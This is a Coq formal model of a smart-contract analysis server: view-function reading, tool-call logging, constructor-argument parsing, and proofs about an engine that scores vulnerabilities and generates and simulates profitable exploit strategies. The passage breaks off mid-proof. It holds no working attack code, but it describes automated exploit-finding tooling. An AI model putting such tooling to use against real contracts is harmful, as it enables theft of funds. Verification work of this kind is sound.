(** The part of [execute] that follows the parsing of the ABI: the choice
    of the view functions, their calls in chunks, the storage slots and
    the patterns, with the counts of the report.  The values read are
    texts, booleans, numbers and arrays; the object that [formatResult]
    builds for a function of several outputs is not among them. *)
Module StateReader.

(** An item of the parsed ABI, as far as [execute] reads it. *)
Record AbiItem : Type := {
  type : string;
  stateMutability : string;
  inputs : option nat;        (* [inputs.length]; [None]: the item has no [inputs] *)
  name : string
}.

(** The predicate of [parsedABI.filter]; the length of [inputs] is read
    only of a view or pure function. *)
Definition isViewFunction (item : AbiItem) : Result bool :=
  if String.eqb (type item) "function"
     && (String.eqb (stateMutability item) "view" || String.eqb (stateMutability item) "pure")
  then match inputs item with
       | Some length => Ok (length =? 0)%nat
       | None => Throw "Cannot read properties of undefined (reading 'length')"
       end
  else Ok false.

(** [viewFunctions] *)
Fixpoint viewFunctions (parsedABI : list AbiItem) : Result (list AbiItem) :=
  match parsedABI with
  | [] => Ok []
  | item :: items =>
      let! keep := isViewFunction item in
      let! kept := viewFunctions items in
      Ok (if keep then item :: kept else kept)
  end.

(** How the promise of a call settles: the function returns and its
    result is formatted; or an error is caught, whose [message] is kept;
    or the promise rejects, with the [message] of its reason. *)
Inductive Call : Type :=
| Returned (result : JsValue)
| Caught (message : option string)
| Rejected (message : option string).

(** The own properties of an object, in the order of their creation. *)
Definition Store (V : Type) : Type := list (string * V).

Definition ownKeys {V : Type} (object : Store V) : list string := map fst object.

Fixpoint replace {V : Type} (key : string) (value : V) (object : Store V) : Store V :=
  match object with
  | [] => []
  | (k, v) :: object' =>
      if String.eqb k key then (k, value) :: object' else (k, v) :: replace key value object'
  end.

(** [object[key] = value]: the key [__proto__] is the accessor of the
    prototype and gives no own property. *)
Definition assign {V : Type} (key : string) (value : V) (object : Store V) : Store V :=
  if String.eqb key "__proto__" then object
  else if existsb (String.eqb key) (ownKeys object) then replace key value object
  else (object ++ [(key, value)])%list.

(** The truthiness of a message: a text that is not empty. *)
Definition truthyMessage (message : option string) : bool :=
  match message with
  | Some text => negb (String.eqb text EmptyString)
  | None => false
  end.

(** [stateData] and [errors] *)
Record Reading : Type := {
  stateData : Store JsValue;
  errors : Store string
}.

(** The body of [results.forEach]. *)
Definition settle (reading : Reading) (funcName : string) (call : Call) : Reading :=
  match call with
  | Returned result =>
      {| stateData := assign funcName result (stateData reading); errors := errors reading |}
  | Caught message =>
      match message with
      | Some text =>
          if truthyMessage message
          then {| stateData := stateData reading;
                  errors := assign funcName text (errors reading) |}
          else {| stateData := assign funcName JUndefined (stateData reading);
                  errors := errors reading |}
      | None =>
          {| stateData := assign funcName JUndefined (stateData reading);
             errors := errors reading |}
      end
  | Rejected message =>
      {| stateData := stateData reading;
         errors :=
           assign funcName
             (match message with
              | Some text => if truthyMessage message then text else "Unknown error"
              | None => "Unknown error"
              end)
             (errors reading) |}
  end.

Definition chunkSize : nat := 10.

Section Calls.

(** The call of the view function at a position of [viewFunctions]. *)
Variable contractCall : nat -> Call.

(** A chunk, which begins at the position [start]. *)
Fixpoint settleChunk (start : nat) (chunk : list AbiItem) (reading : Reading) : Reading :=
  match chunk with
  | [] => reading
  | func :: funcs =>
      settleChunk (S start) funcs (settle reading (name func) (contractCall start))
  end.

(** The loop over the chunks, from the position [i]. *)
Fixpoint chunksFrom (fuel i : nat) (views : list AbiItem) (reading : Reading) : Reading :=
  match fuel with
  | O => reading
  | S fuel' =>
      if (i <? List.length views)%nat
      then chunksFrom fuel' (i + chunkSize) views
             (settleChunk i (firstn chunkSize (skipn i views)) reading)
      else reading
  end.

Definition callViewFunctions (views : list AbiItem) : Reading :=
  chunksFrom (List.length views) 0 views {| stateData := []; errors := [] |}.

End Calls.

(** The call at a position counts as successful: the function returned,
    or the error caught had no message. *)
Definition succeeded (call : Call) : bool :=
  match call with
  | Returned _ => true
  | Caught message => negb (truthyMessage message)
  | Rejected _ => false
  end.

(** The number of such calls among [count] positions from [start] on. *)
Definition successes (contractCall : nat -> Call) (start count : nat) : nat :=
  List.length (filter (fun position => succeeded (contractCall position)) (seq start count)).

(** [criticalSlots] of [readCriticalStorageSlots] *)
Definition criticalSlots : list (string * string) :=
  [ ("totalSupply", "0x2");
    ("implementation", "0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc");
    ("admin", "0xb53127684a568b3173ae13b9f8a6016e243e63b6e8ee1178d6a717850b5d6103");
    ("owner", "0x0") ].

Definition zeroWord : string :=
  "0x0000000000000000000000000000000000000000000000000000000000000000".

(** [readCriticalStorageSlots], over what [provider.getStorage] answers
    for a slot. *)
Definition readCriticalStorageSlots (getStorage : string -> Result string) : Store string :=
  fold_left
    (fun storageData entry =>
       match getStorage (snd entry) with
       | Ok value =>
           if String.eqb value zeroWord then storageData
           else assign (fst entry) value storageData
       | Throw _ => storageData
       end)
    criticalSlots [].

Record Patterns : Type := {
  hasOwnership : bool;
  hasPausability : bool;
  hasUpgradeability : bool;
  hasReentrancyGuard : bool;
  tokenType : option string;
  suspiciousPatterns : list string
}.

(** [keys.some(key => Object.keys(stateData).some(stateKey =>
    stateKey.toLowerCase().includes(key.toLowerCase())))] *)
Definition someKey (keys : list string) (stateData : Store JsValue) : bool :=
  existsb
    (fun key =>
       existsb
         (fun stateKey => Regex.includes (Text.toLowerCase stateKey) (Text.toLowerCase key))
         (ownKeys stateData))
    keys.

(** The truthiness of a slot that was read, or not. *)
Definition truthySlot (key : string) (storageSlots : Store string) : bool :=
  match find (fun entry => String.eqb (fst entry) key) storageSlots with
  | Some entry => negb (String.eqb (snd entry) EmptyString)
  | None => false
  end.

Definition analyzeStatePatterns (stateData : Store JsValue) (storageSlots : Store string) :
  Patterns :=
  let hasOwnership := someKey [ "owner"; "admin"; "_owner"; "governance" ] stateData in
  let hasPausability := someKey [ "paused"; "isPaused"; "_paused" ] stateData in
  let hasUpgradeability :=
    truthySlot "implementation" storageSlots || truthySlot "admin" storageSlots in
  let tokenType :=
    if truthyValue (get "name" stateData) && truthyValue (get "symbol" stateData)
       && truthyValue (get "totalSupply" stateData)
    then Some "ERC-20" else None in
  let suspiciousPatterns :=
    if truthyValue (get "balanceOf" stateData) && truthyValue (get "totalSupply" stateData)
    then [ "Token contract with balance tracking" ] else [] in
  let suspiciousPatterns :=
    if hasOwnership && hasPausability
    then (suspiciousPatterns ++ [ "Centralized control with pause functionality" ])%list
    else suspiciousPatterns in
  {| hasOwnership := hasOwnership;
     hasPausability := hasPausability;
     hasUpgradeability := hasUpgradeability;
     hasReentrancyGuard := false;
     tokenType := tokenType;
     suspiciousPatterns := suspiciousPatterns |}.

(** The fields of the report of [execute] that come of the calls. *)
Record Report : Type := {
  r_stateData : Store JsValue;
  r_storageSlots : Store string;
  r_viewFunctions : list string;
  r_errors : Store string;
  r_patterns : Patterns;
  totalViewFunctions : nat;
  successfulCalls : nat;
  failedCalls : nat
}.

Definition report (parsedABI : list AbiItem) (contractCall : nat -> Call)
  (getStorage : string -> Result string) : Result Report :=
  let! views := viewFunctions parsedABI in
  let reading := callViewFunctions contractCall views in
  let storageSlots := readCriticalStorageSlots getStorage in
  Ok {| r_stateData := stateData reading;
        r_storageSlots := storageSlots;
        r_viewFunctions := map name views;
        r_errors := errors reading;
        r_patterns := analyzeStatePatterns (stateData reading) storageSlots;
        totalViewFunctions := List.length views;
        successfulCalls := List.length (ownKeys (stateData reading));
        failedCalls := List.length (ownKeys (errors reading)) |}.

(** The zero-argument views of an ERC-20 token, and its [balanceOf]. *)
Definition erc20 : list AbiItem :=
  [ {| type := "function"; stateMutability := "view"; inputs := Some 0%nat; name := "name" |};
    {| type := "function"; stateMutability := "view"; inputs := Some 0%nat; name := "symbol" |};
    {| type := "function"; stateMutability := "view"; inputs := Some 0%nat;
       name := "decimals" |};
    {| type := "function"; stateMutability := "view"; inputs := Some 0%nat;
       name := "totalSupply" |};
    {| type := "function"; stateMutability := "view"; inputs := Some 1%nat;
       name := "balanceOf" |};
    {| type := "function"; stateMutability := "nonpayable"; inputs := Some 2%nat;
       name := "transfer" |};
    {| type := "event"; stateMutability := EmptyString; inputs := Some 3%nat;
       name := "Transfer" |} ].

(** Twelve views [v0] ... [v11], the fourth of which throws an error
    without a message and the twelfth an error with one. *)
Definition twelve : list AbiItem :=
  map (fun n => {| type := "function"; stateMutability := "view"; inputs := Some 0%nat;
                   name := String "v" (Scenario.printNumber (inject_Z (Z.of_nat n))) |})
      (seq 0 12).

Definition twelveCalls (position : nat) : Call :=
  if (position =? 3)%nat then Caught (Some EmptyString)
  else if (position =? 11)%nat then Caught (Some "execution reverted")
  else Returned (JStr "1").

End StateReader.

(* ================================================================== *)
(** ** McpServer (server/mcp/server.ts): the calls of the tools *)
(* ================================================================== *)

(** The two entries to a tool, the handler of a [CallTool] request and
    [executeToolDirectly], with the rows they write to the log of the
    tool executions.  The tool, the database, the clock and
    [JSON.stringify] are given by what they return or throw; what is
    thrown is an [Error], with its message. *)
Module ToolCalls.

(** The keys of [this.tools], as [initializeTools] sets them. *)
Definition toolNames : list string :=
  [ "source_code_fetcher"; "constructor_parameters"; "state_reader"; "code_sanitizer";
    "concrete_execution"; "revenue_normalizer" ].

(** [this.tools.has(name)] *)
Definition has (name : string) : bool := existsb (String.eqb name) toolNames.

(** [toolName.replace(/-/g, '_')] *)
Definition snakeCase (toolName : string) : string :=
  string_of_list_ascii
    (map (fun c => if Ascii.eqb c "-" then "_"%char else c) (list_ascii_of_string toolName)).

Section Server.

(** The arguments of a call and the result of a tool. *)
Variables Args Output : Type.

(** The row handed to [storage.createToolExecution]. *)
Record ToolExecution : Type := {
  sessionId : option string;
  toolName : string;
  status : string;
  input : Args;
  output : option Output;
  errorMessage : option string;
  executionTime : Z
}.

(** [args.sessionId || null] *)
Variable sessionIdOf : Args -> option string.

(** [tool.execute(args)] of the tool of a name. *)
Variable execute : string -> option Args -> Result Output.

(** Whether the database takes a row, or the error it throws. *)
Variable insert : ToolExecution -> Result unit.

(** [Date.now()], by the number of the reading within the call. *)
Variable now : nat -> Z.

(** [JSON.stringify(result, null, 2)] *)
Variable stringify : Output -> Result string.

(** [storage.createToolExecution] *)
Definition createToolExecution (row : ToolExecution) (log : list ToolExecution) :
  Result (list ToolExecution) :=
  let! taken := insert row in Ok (log ++ [row])%list.

(** The [catch] of both entries, at the reading [reading] of the clock:
    the failed row is written and the error is thrown again, unless the
    writing throws. *)
Definition failed {T : Type} (name : string) (args : Args) (message : string) (reading : nat)
  (log : list ToolExecution) : Result T * list ToolExecution :=
  match createToolExecution
          {| sessionId := sessionIdOf args;
             toolName := name;
             status := "failed";
             input := args;
             output := None;
             errorMessage := Some message;
             executionTime := now reading - now 0 |} log with
  | Ok log' => (Throw message, log')
  | Throw message' => (Throw message', log)
  end.

Definition completed (name : string) (args : Args) (result : Output) : ToolExecution :=
  {| sessionId := sessionIdOf args;
     toolName := name;
     status := "completed";
     input := args;
     output := Some result;
     errorMessage := None;
     executionTime := now 1 - now 0 |}.

Definition undefinedArgs : string := "Cannot read properties of undefined (reading 'sessionId')".

(** [executeToolDirectly]: the outcome, and the log after the call. *)
Definition executeToolDirectly (name : string) (args : option Args) (log : list ToolExecution) :
  Result Output * list ToolExecution :=
  let normalizedName := snakeCase name in
  if negb (has normalizedName) then (Throw ("Unknown tool: " ++ name), log)
  else
    match args with
    | None => (Throw undefinedArgs, log)
    | Some given =>
        match execute normalizedName args with
        | Ok result =>
            match createToolExecution (completed normalizedName given result) log with
            | Ok log' => (Ok result, log')
            | Throw message => failed normalizedName given message 2 log
            end
        | Throw message => failed normalizedName given message 1 log
        end
    end.

(** The handler of a [CallTool] request: the text of the content
    returned, and the log after the call. *)
Definition callTool (name : string) (args : option Args) (log : list ToolExecution) :
  Result string * list ToolExecution :=
  if negb (has name) then (Throw ("Unknown tool: " ++ name), log)
  else
    match args with
    | None => (Throw undefinedArgs, log)
    | Some given =>
        match execute name args with
        | Ok result =>
            match createToolExecution (completed name given result) log with
            | Ok log' =>
                match stringify result with
                | Ok text => (Ok text, log')
                | Throw message => failed name given message 2 log'
                end
            | Throw message => failed name given message 2 log
            end
        | Throw message => failed name given message 1 log
        end
    end.

End Server.

Arguments sessionId {Args Output}.
Arguments toolName {Args Output}.
Arguments status {Args Output}.
Arguments input {Args Output}.
Arguments output {Args Output}.
Arguments errorMessage {Args Output}.
Arguments executionTime {Args Output}.

(** A tool that returns its argument, a clock that advances by 5, a
    database that takes every row, and a result that has no JSON text. *)
Definition echo (name : string) (args : option string) : Result string :=
  match args with
  | Some text => Ok text
  | None => Throw "ZodError"
  end.

Definition ticks (reading : nat) : Z := 1000 + 5 * Z.of_nat reading.

Definition takesAll (row : ToolExecution string string) : Result unit := Ok tt.

Definition unserializable (result : string) : Result string :=
  Throw "Do not know how to serialize a BigInt".

End ToolCalls.

(* ================================================================== *)
(** ** ConstructorParameters (server/mcp/tools/constructor-parameters.ts): the fallback *)
(* ================================================================== *)

(** [parseRawConstructorArgs] and [parseValueByType], which read the
    constructor arguments when the decoding by the ABI has failed. *)
Module ConstructorParameters.

Import JsNum.

(** An input of the constructor, as the ABI gives it; the name may be
    missing. *)
Record Input : Type := {
  name : option string;
  type : string
}.

(** An entry of [parameters]. *)
Record Entry : Type := {
  p_name : string;
  p_type : string;
  value : JsValue;
  rawValue : string
}.

(** The length of a text, as a number. *)
Definition lengthOf (text : string) : Q := inject_Z (Z.of_nat (String.length text)).

(** [text.slice(start, end)], for two numbers that are not negative. *)
Definition slice (text : string) (start finish : Q) : string :=
  let from := Nat.min (Z.to_nat (Qfloor start)) (String.length text) in
  let to := Nat.min (Z.to_nat (Qfloor finish)) (String.length text) in
  substring from (to - from) text.

(** [text.slice(-40)] *)
Definition last40 (text : string) : string :=
  substring (String.length text - 40) 40 text.

Definition zeroWord : string :=
  "0000000000000000000000000000000000000000000000000000000000000000".

Section Parser.
Context {A : Arith}.

(** [BigInt(text).toString()]: the decimal numeral of the integer that
    the text denotes, or the error of a text that denotes none. *)
Variable BigInt_toString : string -> Result string.

(** [Number.prototype.toString], for the names. *)
Variable Number_toString : Q -> string.

Definition parseValueByType (rawValue type : string) : JsValue :=
  if String.eqb type "address" then JStr ("0x" ++ last40 rawValue)
  else if Regex.includes type "uint" || Regex.includes type "int" then
    match BigInt_toString ("0x" ++ rawValue) with
    | Ok numeral => JStr numeral
    | Throw _ => JStr rawValue
    end
  else if String.eqb type "bool" then JBool (negb (String.eqb rawValue zeroWord))
  else if Regex.includes type "bytes" then JStr ("0x" ++ rawValue)
  else JStr rawValue.

(** The entry pushed for the input at the position [i]. *)
Definition parameterAt (rawArgs : string) (bytesPerParam : Q) (i : nat) (input : Input) :
  Entry :=
  let start := mul (inject_Z (Z.of_nat i)) bytesPerParam in
  let finish := add start bytesPerParam in
  let rawValue := slice rawArgs start finish in
  {| p_name :=
       match name input with
       | Some text =>
           if String.eqb text EmptyString
           then "param" ++ Number_toString (inject_Z (Z.of_nat i)) else text
       | None => "param" ++ Number_toString (inject_Z (Z.of_nat i))
       end;
     p_type := type input;
     value := parseValueByType rawValue (type input);
     rawValue := "0x" ++ rawValue |}.

(** The loop over the inputs, from the position [i]. *)
Fixpoint parametersFrom (rawArgs : string) (bytesPerParam : Q) (i : nat) (inputs : list Input) :
  list Entry :=
  match inputs with
  | [] => []
  | input :: inputs' =>
      parameterAt rawArgs bytesPerParam i input
      :: parametersFrom rawArgs bytesPerParam (S i) inputs'
  end.

Definition parseRawConstructorArgs (rawArgs : string) (inputs : list Input) : list Entry :=
  let argLength := lengthOf rawArgs in
  let paramCount := inject_Z (Z.of_nat (List.length inputs)) in
  match inputs with
  | [] => []
  | _ =>
      let bytesPerParam := mul (Math_floor (div (div argLength paramCount) (lit 2))) (lit 2) in
      parametersFrom rawArgs bytesPerParam 0 inputs
  end.

End Parser.

(** The arguments in words of 32 bytes, one after the other. *)
Definition joined (words : list string) : string := String.concat EmptyString words.

(** The entry that belongs to a word of the arguments, at a position. *)
Definition parameterOf {A : Arith} (BigInt_toString : string -> Result string)
  (Number_toString : Q -> string) (i : nat) (input : Input) (word : string) : Entry :=
  {| p_name :=
       match name input with
       | Some text =>
           if String.eqb text EmptyString
           then "param" ++ Number_toString (inject_Z (Z.of_nat i)) else text
       | None => "param" ++ Number_toString (inject_Z (Z.of_nat i))
       end;
     p_type := type input;
     value := parseValueByType BigInt_toString word (type input);
     rawValue := "0x" ++ word |}.

Fixpoint parametersOf {A : Arith} (BigInt_toString : string -> Result string)
  (Number_toString : Q -> string) (i : nat) (inputs : list Input) (words : list string) :
  list Entry :=
  match inputs, words with
  | input :: inputs', word :: words' =>
      parameterOf BigInt_toString Number_toString i input word
      :: parametersOf BigInt_toString Number_toString (S i) inputs' words'
  | _, _ => []
  end.

(** The value of a hexadecimal digit. *)
Definition hexDigit (c : ascii) : option Z :=
  let n := Z.of_nat (nat_of_ascii c) in
  if ((48 <=? n) && (n <=? 57))%Z then Some (n - 48)%Z
  else if ((97 <=? n) && (n <=? 102))%Z then Some (n - 87)%Z
  else if ((65 <=? n) && (n <=? 70))%Z then Some (n - 55)%Z
  else None.

Fixpoint hexValue (digits : list ascii) (acc : Z) : option Z :=
  match digits with
  | [] => Some acc
  | c :: digits' =>
      match hexDigit c with
      | Some d => hexValue digits' (16 * acc + d)%Z
      | None => None
      end
  end.

(** [BigInt] on a text [0x] and hexadecimal digits, with the decimal
    numeral of its value. *)
Definition hexadecimal (text : string) : Result string :=
  match list_ascii_of_string text with
  | "0"%char :: "x"%char :: c :: digits =>
      match hexValue (c :: digits) 0 with
      | Some n => Ok (Scenario.printNumber (inject_Z n))
      | None => Throw "Cannot convert to a BigInt"
      end
  | _ => Throw "Cannot convert to a BigInt"
  end.

(** The arguments of a constructor (address owner, uint256 cap, bool
    open). *)
Definition sample : list string :=
  [ "000000000000000000000000742d35cc4bf426a3c1f5e486d9cba471f861bc4a";
    "00000000000000000000000000000000000000000000000000000000000f4240";
    "0000000000000000000000000000000000000000000000000000000000000001" ].

Definition sampleInputs : list Input :=
  [ {| name := Some "owner"; type := "address" |};
    {| name := Some "cap"; type := "uint256" |};
    {| name := None; type := "bool" |} ].

End ConstructorParameters.

(* ================================================================== *)
(** * Properties *)
(* ================================================================== *)

(** The main statements, by the identifier of the property they settle:

      - C1  [C1_discovery_iff_execution_succeeded]
      - C2  [C2_confidence_between_5_and_95]
      - C3  [C3_selects_first_strategy_of_greatest_confidence]
      - C4  [C4_results_carry_a_note_not_a_simulated_flag]
      - C5  [C5_net_profit_is_total_minus_gas_cost]
      - C6  [C6_profitable_iff_unrounded_profit_positive]
      - C7  [C7_risk_score_counts_unknown_tokens]
      - C8  [C8_single_delegatecall_finding]
      - C9  [C9_failing_token_is_isolated]
      - C10 [C10_normalised_tokens_follow_the_input] *)

(** ** The arithmetic of the engine *)

(** [round64] computes what the doubles of the kernel compute, on every
    pair of the samples and for the four operations. *)
Example round64_agrees_with_the_kernel :
  forallb (fun a => forallb (Kernel64.agrees a) Kernel64.samples) Kernel64.samples = true.
Proof. vm_compute. reflexivity. Qed.

(** The two computations on which the reported profit goes astray, on the
    doubles of the kernel: (0.1 + 0.2) - 0.3 is positive and prints as
    0.00; 9000000000.05 - 0.01 prints as 9000000000.04, and the double
    9000000000.04 is more than 1e-6 away from the exact difference of the
    doubles 9000000000.05 and 0.01. *)
Example kernel_doubles_on_the_profit_scenarios :
  let residue :=
    PrimFloat.sub (PrimFloat.add (Kernel64.quotient 1 10) (Kernel64.quotient 2 10))
                  (Kernel64.quotient 3 10) in
  let net :=
    PrimFloat.sub (Kernel64.quotient 900000000005 100) (Kernel64.quotient 1 100) in
  PrimFloat.ltb PrimFloat.zero residue = true
  /\ JsNum.toFixed 2 (Kernel64.valueOf residue) = (0 # 100)%Q
  /\ JsNum.toFixed 2 (Kernel64.valueOf net) = (900000000004 # 100)%Q
  /\ (1 # 1000000
      < Qabs (Kernel64.valueOf (Kernel64.quotient 900000000004 100)
              - (Kernel64.valueOf (Kernel64.quotient 900000000005 100)
                 - Kernel64.valueOf (Kernel64.quotient 1 100))))%Q.
Proof. repeat split; vm_compute; reflexivity. Qed.

(** In double precision 0.1 + 0.2 is 0.30000000000000004, above the double
    0.3; 30 * 1.8 is 54; and 1.005 prints as 1.00 with two decimals, the
    double being below 1.005, while 0.125, a tie, prints as 0.13. *)
Example binary64_landmarks :
  @JsNum.add JsNum.Binary64 (@JsNum.lit JsNum.Binary64 (1 # 10)) (@JsNum.lit JsNum.Binary64 (2 # 10))
  = (1351079888211149 # 4503599627370496)%Q
  /\ (@JsNum.lit JsNum.Binary64 (3 # 10)
      < @JsNum.add JsNum.Binary64 (@JsNum.lit JsNum.Binary64 (1 # 10))
          (@JsNum.lit JsNum.Binary64 (2 # 10)))%Q
  /\ @JsNum.mul JsNum.Binary64 (@JsNum.lit JsNum.Binary64 30) (@JsNum.lit JsNum.Binary64 (18 # 10))
     = 54%Q
  /\ JsNum.toFixed 2 (@JsNum.lit JsNum.Binary64 (1005 # 1000)) = (100 # 100)%Q
  /\ JsNum.toFixed 2 (@JsNum.lit JsNum.Binary64 (125 # 1000)) = (13 # 100)%Q.
Proof. repeat split; vm_compute; reflexivity. Qed.

(** ** The output tag of the execution harness (C4) *)

(** The result parsed from the output of a passing forge run. *)
Example parseForgeOutput_of_a_passing_run :
  let stdout :=
    "[PASS] testExploit() (gas: 52341)" ++ ConcreteExecution.nl
    ++ "  ├─ [0] ExploitTest::testExploit()" ++ ConcreteExecution.nl
    ++ "Profit: 1000" in
  @ForgeService.parseForgeOutput JsNum.Binary64 stdout EmptyString
  = [ ("success", JBool true); ("gasUsed", JNum 52341); ("profit", JNum 1000);
      ("extractedTokens", JTokens []);
      ("trace", JStrings ["├─ [0] ExploitTest::testExploit()"]);
      ("fullOutput", JStr stdout); ("errors", JStr EmptyString) ].
Proof. vm_compute. reflexivity. Qed.

(** The simulator on a strategy of confidence 64: the draw 0.1 sets the
    threshold at 62 and the exploit succeeds, the draw 0.9 sets it at 78
    and it fails. *)
Example simulator_threshold :
  get "success"
    (@ForgeService.simulateExploitTest JsNum.Binary64 Scenario.printNumber
       (Fixture.testParams JsNum.Binary64)
       {| ForgeService.draw1 := 1 # 10; ForgeService.draw2 := 1 # 2;
          ForgeService.draw3 := 1 # 2 |}) = JBool true
  /\ get "success"
       (@ForgeService.simulateExploitTest JsNum.Binary64 Scenario.printNumber
          (Fixture.testParams JsNum.Binary64)
          {| ForgeService.draw1 := 9 # 10; ForgeService.draw2 := 1 # 2;
             ForgeService.draw3 := 1 # 2 |}) = JBool false.
Proof. split; vm_compute; reflexivity. Qed.

(** C4, as stated, fails: with forge absent, a delegatecall strategy of
    confidence 64 and the draws 0.1, 0.5, 0.5, the result of the simulator
    has no field [simulated] at all, so it does not carry
    [simulated = true]; and the result parsed from the output of a passing
    forge run has no such field either, so it does not carry
    [simulated = false]. *)
Lemma C4_simulator_result_not_tagged_simulated :
  get "simulated"
    (@ForgeService.simulateExploitTest JsNum.Binary64 Scenario.printNumber
       (Fixture.testParams JsNum.Binary64)
       {| ForgeService.draw1 := 1 # 10; ForgeService.draw2 := 1 # 2;
          ForgeService.draw3 := 1 # 2 |})
  <> JBool true
  /\ get "simulated"
       (@ForgeService.parseForgeOutput JsNum.Binary64
          "[PASS] testExploit() (gas: 52341)" EmptyString)
     <> JBool false.
Proof. split; vm_compute; discriminate. Qed.

(** C4, amended: for every strategy and every random draw the result of
    the simulator has no field [simulated]; what marks it is the text
    field [simulationNote].  The result of a real forge run, parsed from
    its output or built when the command fails, has neither field, and the
    ExecutionResult that [executeExploitStrategy] builds from either
    copies six fields only, so it carries neither [simulated] nor
    [simulationNote]. *)
Theorem C4_results_carry_a_note_not_a_simulated_flag :
  forall (A : JsNum.Arith) (Number_toString : Q -> string),
    (forall params random,
        get "simulated" (ForgeService.simulateExploitTest Number_toString params random)
        = JUndefined
        /\ get "simulationNote" (ForgeService.simulateExploitTest Number_toString params random)
           = JStr "This is a simulated result - Forge not available")
    /\ (forall run,
           get "simulated" (ForgeService.runForgeTest run) = JUndefined
           /\ get "simulationNote" (ForgeService.runForgeTest run) = JUndefined)
    /\ (forall h strategy contractAddress chainId blockNumber,
           let executionResult :=
             ConcreteExecution.executeExploitStrategy Number_toString h strategy
               contractAddress chainId blockNumber in
           hasKey "simulated" executionResult = false
           /\ hasKey "simulationNote" executionResult = false).
Proof.
  intros A Number_toString. split; [ | split ].
  - intros params random. split; reflexivity.
  - intros run. destruct run; split; reflexivity.
  - intros h strategy contractAddress chainId blockNumber executionResult.
    subst executionResult. unfold ConcreteExecution.executeExploitStrategy.
    destruct (ForgeService.testExploit _ _ _ _ _); split; reflexivity.
Qed.

(** ** The confidence of findings and strategies (C2) *)

Section ConfidenceBounds.

Import ConcreteExecution.

Lemma matchAll_not_empty (r : Regex.re) (text : string) (matches : list string) :
  Regex.matchAll r text = Some matches -> (1 <= List.length matches)%nat.
Proof.
  unfold Regex.matchAll.
  destruct (Regex.matchesFrom _ r _) as [ | m ms ]; [ discriminate | ].
  intros H. injection H as <-. simpl. lia.
Qed.

(** A vulnerability of the scan comes from an entry of the table whose
    pattern matched at least once. *)
Lemma analyze_entry {A : JsNum.Arith} (sourceCode : string) (v : Vulnerability) :
  In v (analyzeForVulnerabilities sourceCode) ->
  exists t config n,
    In (t, config) patterns /\ (1 <= n)%nat /\
    option_map (@List.length string) (Regex.matchAll (pattern config) sourceCode) = Some n /\
    v = {| v_type := t;
           v_severity := p_severity config;
           v_description := p_description config;
           v_matches := n;
           v_confidence := confidenceOf t n (protectionCount sourceCode) |}.
Proof.
  unfold analyzeForVulnerabilities. intros H.
  apply in_flat_map in H. destruct H as [[t config] [Hin Hv]].
  unfold scanPattern in Hv.
  destruct (Regex.matchAll (pattern config) sourceCode) as [matches | ] eqn:Hm;
    [ | contradiction ].
  destruct Hv as [<- | []].
  exists t, config, (List.length matches).
  split; [ exact Hin | ].
  split; [ eapply matchAll_not_empty; eauto | ].
  split; [ rewrite Hm; reflexivity | reflexivity ].
Qed.

Lemma lit_small (exact : bool) :
  @JsNum.lit (Scenario.arith exact) 30 = 30%Q
  /\ @JsNum.lit (Scenario.arith exact) 20 = 20%Q
  /\ @JsNum.lit (Scenario.arith exact) 95 = 95%Q
  /\ @JsNum.lit (Scenario.arith exact) 5 = 5%Q.
Proof. destruct exact; vm_compute; repeat split; reflexivity. Qed.

(** More than three matches add no more than three do, and more than
    four protective matches take off no more than four do. *)
Lemma min_matches (n : nat) :
  JsNum.Math_min (count (n * 10)) 30 = count (Nat.min n 3 * 10).
Proof.
  destruct n as [ | [ | [ | [ | n ] ] ] ].
  1-4: reflexivity.
  assert (H : (Z.of_nat (S (S (S (S n))) * 10) * 1 <=? 30 * 1)%Z = false)
    by (apply Z.leb_gt; lia).
  unfold JsNum.Math_min, count, Qle_bool, inject_Z, Qnum, Qden.
  rewrite H. reflexivity.
Qed.

Lemma min_protection (p : nat) :
  JsNum.Math_min (count (p * 5)) 20 = count (Nat.min p 4 * 5).
Proof.
  destruct p as [ | [ | [ | [ | [ | p ] ] ] ] ].
  1-5: reflexivity.
  assert (H : (Z.of_nat (S (S (S (S (S p)))) * 5) * 1 <=? 20 * 1)%Z = false)
    by (apply Z.leb_gt; lia).
  unfold JsNum.Math_min, count, Qle_bool, inject_Z, Qnum, Qden.
  rewrite H. reflexivity.
Qed.

Lemma confidenceOf_saturates (exact : bool) (t : VulnType) (n p : nat) :
  @confidenceOf (Scenario.arith exact) t n p
  = @confidenceOf (Scenario.arith exact) t (Nat.min n 3) (Nat.min p 4).
Proof.
  unfold confidenceOf.
  destruct (lit_small exact) as (-> & -> & _ & _).
  rewrite !min_matches, !min_protection.
  rewrite (Nat.min_l (Nat.min n 3) 3) by lia.
  rewrite (Nat.min_l (Nat.min p 4) 4) by lia.
  reflexivity.
Qed.

End ConfidenceBounds.

Lemma confidenceTable_holds (exact : bool) : Checks.confidenceTable exact = true.
Proof. destruct exact; vm_compute; reflexivity. Qed.

Section ConfidenceTheorem.

Import ConcreteExecution.

(** The confidence of a strategy depends on the category and the
    confidence of its vulnerability only. *)
Lemma strategy_confidence_of {A : JsNum.Arith} (v v' : Vulnerability) :
  v_type v = v_type v' -> v_confidence v = v_confidence v' ->
  option_map confidence (generateExploitStrategy v)
  = option_map confidence (generateExploitStrategy v').
Proof.
  destruct v as [t s d n c], v' as [t' s' d' n' c']. simpl.
  intros <- <-. destruct t; reflexivity.
Qed.

Lemma strategy_type_of {A : JsNum.Arith} (v : Vulnerability) :
  option_map type (generateExploitStrategy v) = Some (v_type v).
Proof. destruct v as [t s d n c]. destruct t; reflexivity. Qed.

Lemma confidenceTable_entry (exact : bool) (t : VulnType) (n p : nat) :
  (1 <= n)%nat ->
  let v := @Checks.vulnerabilityOn (Scenario.arith exact) t EmptyString EmptyString
             (Nat.min n 3) (Nat.min p 4) in
  Checks.within_5_95 (v_confidence v) = true
  /\ match @generateExploitStrategy (Scenario.arith exact) v with
     | Some s => Checks.within_5_95 (confidence s) = true
     | None => True
     end.
Proof.
  intros Hn v.
  pose proof (confidenceTable_holds exact) as H.
  unfold Checks.confidenceTable in H.
  rewrite forallb_forall in H.
  specialize (H t). rewrite forallb_forall in H.
  assert (Ht : In t Checks.allTypes) by (destruct t; simpl; tauto).
  specialize (H Ht (Nat.min n 3)). rewrite forallb_forall in H.
  assert (Hn3 : In (Nat.min n 3) [1; 2; 3]%nat).
  { assert (Hm : (Nat.min n 3 = 1 \/ Nat.min n 3 = 2 \/ Nat.min n 3 = 3)%nat) by lia.
    destruct Hm as [-> | [-> | ->]]; simpl; tauto. }
  assert (Hp4 : In (Nat.min p 4) [0; 1; 2; 3; 4]%nat).
